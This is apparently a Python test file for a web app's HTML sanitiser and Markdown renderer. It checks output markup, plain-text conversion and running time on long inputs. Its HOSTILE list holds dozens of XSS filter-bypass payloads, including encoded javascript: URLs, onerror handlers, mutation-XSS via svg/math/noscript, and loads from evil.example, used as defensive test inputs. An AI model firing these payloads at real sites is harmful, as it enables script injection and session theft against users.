"""Sanitised bodies: the markup that stays, the markup that goes, and the time it takes."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from typing import Final

import pytest
from hypothesis import given
from hypothesis import strategies as st

from graph.text.allow_list import ATTRIBUTES, TAGS
from graph.text.markup import MAX_MARKDOWN, render_html, render_text, sanitize
from tests.builders import Stopwatch
from tests.thorough import cases, examples

MARKUP = """
# Tide mill turns

After *years*, it **turns** ~~slowly~~ at [the quay](https://gull.example/?a=1&b=2 "Quay").

| Day | Tide |
|-----|------|
| Mon | high |

- one
- two

> Said the miller.

    cogs & wheels

![The mill](/mill.jpg)
"""


def test_markdown_becomes_html() -> None:
    assert render_html(MARKUP).split("\n")[:3] == [
        "<h1>Tide mill turns</h1>",
        "<p>After <em>years</em>, it <strong>turns</strong> <s>slowly</s> at "
        '<a href="https://gull.example/?a=1&amp;b=2" title="Quay" rel="noopener noreferrer">'
        "the quay</a>.</p>",
        "<table>",
    ]


def test_markdown_becomes_plain_text() -> None:
    assert render_text(MARKUP) == (
        "Tide mill turns\n\nAfter years, it turns slowly at the quay.\n\n"
        "Day Tide\nMon high\n\none\ntwo\n\nSaid the miller.\n\ncogs & wheels"
    )


@pytest.mark.parametrize(
    ("source", "html"),
    [
        ("<p>One<p>Two", "<p>One</p><p>Two</p>"),
        ("<div><b>Bold</div> not", "<div><b>Bold</b></div> not"),
        ("<ul><li>a<li>b</ul>", "<ul><li>a</li><li>b</li></ul>"),
        ("<b><i>x</b></i>", "<b><i>x</i></b>"),
        ("<p>a</p></div></p><p>b</p>", "<p>a</p><p>b</p>"),
        ("<a href=/quay/>x</a>", '<a href="/quay/" rel="noopener noreferrer">x</a>'),
        ("<img src='/a.jpg' alt='Gull' />", '<img src="/a.jpg" alt="Gull">'),
        (
            "<table><tr><td>a<td>b</table>",
            "<table><tbody><tr><td>a</td><td>b</td></tr></tbody></table>",
        ),
        ("<section><p>kept</p></section>", "<p>kept</p>"),
        ("5 < 6 &amp; 7 &gt; 6", "5 &lt; 6 &amp; 7 &gt; 6"),
        ("<p>Gulls &eacute; &#8212;</p>", "<p>Gulls é —</p>"),
        ('<p id="x" class="y" style="color:red" data-z="1" lang="en">a</p>', "<p>a</p>"),
        ("<pre>\n\n  a\n b</pre>", "<pre>  a\n b</pre>"),
        ("", ""),
    ],
)
def test_html_is_sanitized_and_repaired(source: str, html: str) -> None:
    assert sanitize(source) == html


@pytest.mark.parametrize(
    ("source", "text"),
    [
        ("<p>One</p><p>Two<br>three</p>", "One\n\nTwo\nthree"),
        ("<ul><li>a</li><li>b</li></ul>", "a\nb"),
        ("<p>a <b> b</b>\n  c</p>", "a b c"),
        ("<p>x</p><script>alert('y')</script><style>p{}</style>", "x"),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<table><tr><td>a</td><td>b</td></tr></table>", "a b"),
        ("&lt;b&gt; &amp;amp; &eacute;", "<b> &amp; é"),
        ("a\nb\n\nc", "a b\n\nc"),
        ("<!-- note -->", ""),
        ("   ", ""),
    ],
)
def test_plain_text_has_no_tags_and_its_blocks_stand_apart(source: str, text: str) -> None:
    assert render_text(source) == text


HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x\x0conerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img/src='x'/onerror=alert(1)>",
    "<p onclick='alert(1)' ONMOUSEOVER=alert(2)>x</p>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' \x01JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript&colon;alert(1)'>x</a>",
    "<a href='&#106;&#x61;vascript&#58;alert(1)'>x</a>",
    "<a href='&#0000106avascript&#58alert(1)'>x</a>",
    "<a href='jav&Tab;ascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
    "<a href='file:///etc/hosts'>x</a>",
    "[x](javascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](<java&#10;script:alert(1)>)",
    "<javascript:alert(1)>",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "<img src='mailto:a@gull.example'>",
    "<img src='data:image/gif;base64,R0lGOD'>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=x></object><embed src=x><applet code=x>",
    "<form action=//evil.example><input name=a><button formaction=x>go</button></form>",
    "<svg onload=alert(1)><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><script>alert(1)</script></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<math><mtext><table><mglyph><style><!--</style>"
    "<img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><a title='</title><script>alert(1)</script>'></title>",
    "<xmp><p title='</xmp><script>alert(1)</script>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<!--[if IE]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example><meta http-equiv=refresh content='0;url=x'>",
    "<base href=//evil.example>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<a href='//gull.example' target=_blank rel=opener>x</a>",
    "<b <script>alert(1)</script>>x",
    "<a title='\"><script>alert(1)</script>'>x</a>",
    "</p><</script>script>alert(1)<",
    "<p\ud800>\udfff</p>",
    "\x00<b>\x00</b>",
]

_SCHEME = re.compile(r"([a-z][a-z0-9+.-]*):", re.IGNORECASE)


class Guard(HTMLParser):
    """Fails on whatever is not on the allow list."""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        assert tag in TAGS
        names = {name for name, _ in attrs}
        assert names <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
        values = dict(attrs)
        if tag == "a":
            assert values["rel"] == "noopener noreferrer"
            assert self.scheme(values.get("href")) in {"", "http", "https", "mailto"}
        if tag == "img":
            assert self.scheme(values.get("src")) in {"", "http", "https"}

    def handle_endtag(self, tag: str) -> None:
        assert tag in TAGS

    def handle_comment(self, data: str) -> None:
        raise AssertionError(data)

    def handle_decl(self, decl: str) -> None:
        raise AssertionError(decl)

    def handle_pi(self, data: str) -> None:
        raise AssertionError(data)

    def unknown_decl(self, data: str) -> None:
        raise AssertionError(data)

    @staticmethod
    def scheme(url: str | None) -> str:
        """The scheme as a browser sees it."""
        found = _SCHEME.match(re.sub(r"[\x00-\x20]", "", url or ""))
        return found[1].lower() if found else ""


def require_allowed(html: str) -> None:
    guard = Guard()
    guard.feed(html)
    guard.close()


@pytest.mark.parametrize("source", HOSTILE)
def test_hostile_markup_is_harmless(source: str) -> None:
    require_allowed(render_html(source))


LONG: Final = cases(MAX_MARKDOWN // 4, MAX_MARKDOWN)
"""Characters of a source; a quarter of the longest shows well enough what is in no proportion."""

PIECES = st.lists(
    st.sampled_from(
        [
            *HOSTILE,
            *(f"<{tag}>" for tag in sorted(TAGS)),
            *(f"</{tag}>" for tag in sorted(TAGS)),
            "<svg>",
            "<math>",
            "<style>",
            "</style>",
            "<!--",
            "-->",
            "<table>",
            "<a href='",
            "'>",
            '"',
            "`",
            "\n\n",
            "> ",
            "    ",
            "[",
            "](",
            "|",
            "&",
            "&lt;",
            "&#60;",
            "text",
            " ",
        ]
    )
    | st.text(max_size=9),
    max_size=30,
)


@examples(40)
@given(PIECES.map("".join))
def test_only_what_is_allowed_remains(source: str) -> None:
    html = render_html(source)

    require_allowed(html)
    assert sanitize(html) == sanitize(sanitize(html))


@given(st.text("abcäé &<>'\"\n."))
def test_text_that_is_shown_as_html_reads_as_it_was_written(text: str) -> None:
    escaped = text.replace("&", "&amp;").replace("<", "&lt;")

    assert render_text(f"<p>{escaped}</p>".replace("\n", " ")).split() == text.split()


@pytest.mark.parametrize(
    "piece",
    [
        "> ",
        ">",
        "[",
        "![",
        "(",
        "*",
        "*a ",
        "a*_",
        "`",
        "- ",
        "|",
        "&",
        "&amp;",
        "\x00",
        "\n",
        "~~a",
        "<",
        "</",
        "<b>",
        "<div>",
        "<p><b a=1>",
        "<ul><li>",
        "<table><td>",
        "<!--",
        "<a href='",
        "<svg>",
        "<a title='&&&&'>",
        "<p><a href=x>x<table><td></a>",
    ],
)
def test_long_hostile_sources_take_time_in_proportion(piece: str) -> None:
    source = piece * (LONG // len(piece))
    with Stopwatch() as watch:
        html = render_html(source)
        require_allowed(html)
        sanitize(2 * source)  # as what is too long for Markdown is read

    assert watch.seconds < 40 * LONG / 1_000_000
    assert len(html) < 30 * LONG


def test_markup_nested_too_deep_stays_as_text() -> None:
    assert render_text("<div>" * 900 + "deep" + "</div>" * 900) == "deep"


def test_a_very_long_body_is_read_as_html() -> None:
    html = render_html("<p>*Gulls*</p>" * 30_000)

    assert html == "<p>*Gulls*</p>" * 30_000
